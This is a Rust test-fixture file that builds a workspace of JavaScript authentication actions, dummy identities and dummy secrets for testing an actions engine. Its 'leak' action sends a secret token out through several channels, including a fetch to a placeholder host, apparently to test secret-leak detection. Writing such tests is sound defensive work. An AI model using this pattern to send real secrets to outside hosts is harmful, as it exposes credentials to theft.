//! The workspace in which every case stands: identities, secrets, and a small set of actions, one for each way in
//! which an action can behave.

use crate::action::{Action, Script};
use crate::diagnostic::Diagnostics;
use crate::document::parse_document;
use crate::engine::Identity;
use crate::text::{SourceFile, Span};
use crate::value::Text;
use crate::workspace::{Names, Settings, Workspace, decode_identity};
use std::sync::{Arc, OnceLock};

/// Slug and body of `execute(event, api, context)`.
pub const ACTIONS: [(&str, &str); 26] = [
    (
        "set",
        "api.state.set('n', api.config.n ?? 1); api.state.set('late', event.authentication.aal !== 'aal0');",
    ),
    (
        "read",
        "api.state.set('at', Date.now() % 100000); api.state.set('step', context.step); api.state.set('custom', context.custom); api.state.set('session', context.session); api.state.set('who', event.user?.email ?? null); api.state.set('tier', event.user?.app_metadata?.tier ?? 'none');",
    ),
    (
        "refuse",
        "api.deny(api.config.reason); api.deny('second'); api.state.set('n', 2);",
    ),
    (
        "refuse-and-throw",
        "api.deny(); throw new Error('after the deny');",
    ),
    (
        "throw",
        "api.state.set('n', 3); api.log('warn', 'about to fail', { n: 3 }); throw new Error('broken');",
    ),
    (
        "fetch",
        "const r = await api.fetch(api.config.url); api.state.set('status', r.status); api.state.set('body', await r.text());",
    ),
    (
        "fetch-caught",
        "try { const r = await api.fetch(api.config.url, { method: 'POST', headers: { 'x-n': '1' }, body: JSON.stringify({ n: 1 }) }); api.state.set('status', r.status); } catch (e) { api.state.set('code', e.code); }",
    ),
    (
        "fetch-both",
        "const both = await Promise.all([api.fetch(api.config.url), api.fetch(api.config.other)]); api.state.set('sum', both[0].status + both[1].status); api.state.set('at', Date.now() % 100000);",
    ),
    (
        "fetch-first",
        "const first = await Promise.race([api.fetch(api.config.url).then(() => 'fetched', e => e.code), new Promise(done => setTimeout(() => done('timer'), api.config.ms))]); api.state.set('first', first);",
    ),
    (
        "fetch-last",
        "api.fetch(api.config.url).catch(() => {}); api.state.set('n', 6); if (api.config.ms > 99) api.deny('sent');",
    ),
    (
        "wait",
        "const began = Date.now(); await new Promise(done => setTimeout(done, api.config.ms)); api.state.set('n', Date.now() - began); if (api.config.refuse) api.deny('slow');",
    ),
    (
        "refuse-and-wait",
        "api.deny('waited'); await new Promise(done => setTimeout(done, api.config.ms)); api.state.set('n', 1);",
    ),
    (
        "random",
        "const draw = () => 'rnd_' + Math.floor(Math.random() * 2 ** 52).toString(16).padStart(13, '0'); api.state.set('drawn', draw()); await null; api.state.set('again', draw());",
    ),
    (
        "compute-meanwhile",
        "const seen = []; const wait = (ms, name) => new Promise(done => setTimeout(() => { seen.push(name); done(); }, ms)); await Promise.all([api.fetch(api.config.url).then(r => r.status, e => e.code).then(() => { for (let i = 0; i < api.config.turns; i++) { } seen.push('a'); }), api.fetch(api.config.other).then(() => seen.push('b'), e => seen.push(e.code)), wait(1, 't'), wait(2, 'u')]); api.state.set('seen', seen);",
    ),
    (
        "wait-then-throw",
        "api.state.set('n', 1); await new Promise(done => setTimeout(done, api.config.ms)); throw new TypeError('late');",
    ),
    (
        "timers",
        "const seen = []; const wait = (ms, name) => new Promise(done => setTimeout(() => { seen.push(name); done(); }, ms)); const gone = setTimeout(() => seen.push('gone'), 1); clearTimeout(gone); const later = setTimeout(() => seen.push('later'), 60); setTimeout(() => clearTimeout(later), 5); await Promise.all([wait(api.config.ms, 'a'), wait(5, 'b'), wait(api.config.ms, 'c')]); api.state.set('seen', seen);",
    ),
    (
        "compute",
        "let x = 0; for (let i = 0; i < api.config.turns; i++) { x += i; } api.state.set('n', 1); await null; api.state.set('at', Date.now() % 100000);",
    ),
    (
        "compute-and-fetch",
        "for (let i = 0; i < api.config.turns; i++) { } const r = await api.fetch(api.config.url); for (let i = 0; i < api.config.turns; i++) { } api.state.set('status', r.status);",
    ),
    (
        "never",
        "api.state.set('n', 4); await new Promise(() => {});",
    ),
    (
        "refuse-and-hang",
        "api.deny('hung'); await new Promise(() => {});",
    ),
    (
        "metadata",
        "api.user.setAppMetadata({ [api.config.n ? 'tier' : 'level']: api.config.tier ?? 'gold', seen: { here: true } }); api.session.setCustomClaim('claim', api.config.n ?? 7); if (api.config.fail) throw new Error('after the patch');",
    ),
    (
        "secret",
        "api.state.set('header', 'Bearer ' + api.secrets.get('crm_token')); api.log('info', api.secrets.get('crm_token')); api.state.set(api.config.key ?? 'k', [api.secrets.get('crm_token'), { 'in': api.secrets.get('crm_token') }]);",
    ),
    (
        "leak",
        "const s = api.secrets.get('crm_token'); const how = api.config.how; if (how === 'key') api.state.set('k' + s, 1); if (how === 'url') await api.fetch('https://d0.example.com/a?s=' + s); if (how === 'deny') api.deny('because ' + s); if (how === 'throw') throw new Error(s); if (how === 'claim') api.session.setCustomClaim('claim', [s]); if (how === 'metadata') api.user.setAppMetadata({ tier: s }); if (how === 'reject') await Promise.reject(new TypeError('with ' + s)); if (how === 'cause') api.log('error', 'see data', { s });",
    ),
    (
        "undeclared",
        "try { api.state.set('k', api.secrets.get('other_token').length); } catch (e) { api.state.set('code', 'undeclared'); }",
    ),
    (
        "chatty",
        "for (let i = 0; i < 1002; i++) api.log('debug', 'l'); await null; api.log('warn', 'last'); api.state.set('n', 1);",
    ),
    ("off", "api.state.set('n', 5); api.deny('switched off');"),
];

/// Actions that worlds switch off, and the one that they switch on.
pub const SWITCHED: [&str; 5] = ["set", "fetch", "throw", "refuse", "off"];

/// Actions that have a timeout of their own, 120 ms.
pub const HURRIED: [&str; 4] = ["timers", "wait", "fetch-caught", "refuse-and-wait"];

/// The name and the fields of each identity.
pub const IDENTITIES: [(&str, &str); 6] = [
    (
        "alice",
        "{email: alice@example.com, phone: '+4479460000', name: Alice, password: correct horse battery staple, mfa: [totp, webauthn], failed_logins: 4, app_metadata: {tier: enterprise, plan: {seats: 3}}, user_metadata: {locale: en}, email_verified: true}",
    ),
    (
        "bob",
        "{email: bob@example.com, password: hunter2hunter2, failed_logins: 7}",
    ),
    (
        "carol",
        "{email: Carol@Example.com, phone: '+4479460001', password: password1, status: disabled, mfa: [sms], failed_logins: 5}",
    ),
    (
        "dave",
        "{email: dave@mailinator.com, password: Tr0ub4dor&3x, status: locked, mfa: [otp, recovery, totp], failed_logins: 5}",
    ),
    (
        "erin",
        "{phone: '+4479460002', password: an old passphrase, mfa: [webauthn], failed_logins: 5}",
    ),
    ("frank", "{email: frank@example.com}"),
];

/// The value of the secret that every action declares.
pub const SECRET: &str = "test-token-0123";
/// The value of a secret that no action declares.
pub const OTHER_SECRET: &str = "other-token-4567";

/// The workspace without its flows; each case brings its own.
pub fn workspace() -> Workspace {
    let mut settings = Settings::default();
    let secrets = [("crm_token", SECRET), ("other_token", OTHER_SECRET)];
    let secrets = secrets.map(|(name, value)| (Text::from(name), Text::from(value)));
    settings.secrets = Arc::new(secrets.into_iter().collect());
    settings.breached_passwords = vec!["password1".into()];
    settings.disposable_domains = vec!["mailinator.com".into()];
    let mut names = Names::default();
    names.flows.miss();
    names.actions.miss();
    names.identities.miss();
    Workspace {
        root: std::path::PathBuf::new(),
        settings,
        flows: Vec::new(),
        broken_flows: Vec::new(),
        actions: actions().to_vec(),
        identities: identities().to_vec(),
        mock_sets: Vec::new(),
        scenario_files: Vec::new(),
        names,
    }
}

/// Compiled once for the process.
fn actions() -> &'static [Arc<Action>] {
    static ACTIONS_COMPILED: OnceLock<Vec<Arc<Action>>> = OnceLock::new();
    ACTIONS_COMPILED.get_or_init(|| {
        ACTIONS
            .iter()
            .filter_map(|(slug, body)| action(slug, body))
            .collect()
    })
}

fn action(slug: &str, body: &str) -> Option<Arc<Action>> {
    let path = format!("fixtures/actions/{slug}.js");
    let file = SourceFile::new(path, source(body));
    let script = Script::compile(&file).ok()?;
    Some(Arc::new(Action {
        slug: slug.into(),
        name: None,
        version: None,
        enabled: slug != "off",
        triggers: Vec::new(),
        timeout_ms: HURRIED.contains(&slug).then_some(120),
        config_schema: None,
        secrets: vec!["crm_token".into()],
        script,
        span: Span::new(&file, 0..0),
    }))
}

/// The source of an action with this body.
pub fn source(body: &str) -> String {
    format!("export async function execute(event, api, context) {{\n  {body}\n}}\n")
}

fn identities() -> &'static [Arc<Identity>] {
    static READ: OnceLock<Vec<Arc<Identity>>> = OnceLock::new();
    READ.get_or_init(|| {
        let read = IDENTITIES.iter().filter_map(|(name, text)| {
            let mut diagnostics = Diagnostics::default();
            let file = SourceFile::new("identities.yaml", *text);
            let node = parse_document(&file, &mut diagnostics)?;
            decode_identity(Some(name), &node, &mut diagnostics).map(Arc::new)
        });
        read.collect()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_action_compiles_and_every_identity_reads() {
        let workspace = workspace();
        assert_eq!(workspace.actions.len(), ACTIONS.len());
        assert_eq!(workspace.identities.len(), IDENTITIES.len());
    }
}
